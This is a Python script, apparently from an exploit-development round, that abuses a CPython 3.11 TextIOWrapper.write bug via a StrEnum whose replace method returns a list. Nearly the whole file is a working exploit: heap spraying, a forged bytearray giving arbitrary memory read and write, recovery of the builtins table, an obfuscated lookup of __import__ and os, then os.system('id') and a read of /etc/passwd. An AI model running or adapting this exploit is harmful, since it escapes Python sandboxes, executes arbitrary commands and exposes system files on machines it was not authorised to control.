# family: wall (memory: TextIOWrapper.write calls a str subclass's replace and trusts the answer)   goal: id   interpreter: /usr/bin/python3
# (round 80, ok03) newline="\r\n" makes 3.11's TextIOWrapper.write call text.replace by name;
#   a StrEnum member's own replace answers a list, which the pending text takes for a str:
#   a heap overflow on flush, reclaimed as a forged bytearray over all memory.
import enum
import io



def shaped():
    xs = []
    while True:
        xs.append(b"")
        if len(xs) == 60:
            break
    del xs[32:]
    return xs


class E(enum.StrEnum):
    line = "a\n"

    def replace(self, old, new):
        return HOLD[0]


def w8(v):
    return v.to_bytes(8, "little")


fake = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
items = shaped()
items[0] = b"\x00" * 48 + fake
HOLD = [items]
spray = [bytes([i % 250 + 1]) * 47 for i in range(4000)]
for i in range(2001, 4000, 2):
    spray[i] = None
tw = io.TextIOWrapper(io.BytesIO(), encoding="utf-8", newline="\r\n")
tw.write(E.line)
tw.flush()
mem = None
for x in spray:
    if type(x) is bytearray:
        mem = x
print("forged:", type(mem).__name__)
a = id(w8) + 24
target = sum([mem[a + i] << (8 * i) for i in range(8)])
cell = [None]
count = sum([mem[target + i] << (8 * i) for i in range(8)])
mem[target:target + 8] = w8(count + 1)
b = id(cell) + 24
slot = sum([mem[b + i] << (8 * i) for i in range(8)])
mem[slot:slot + 8] = w8(target)
table = cell[0]
print(type(table).__name__, len(table))
loader = table["_" * 2 + "import" + "_" * 2]
osm = loader("o" + "s")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:120])
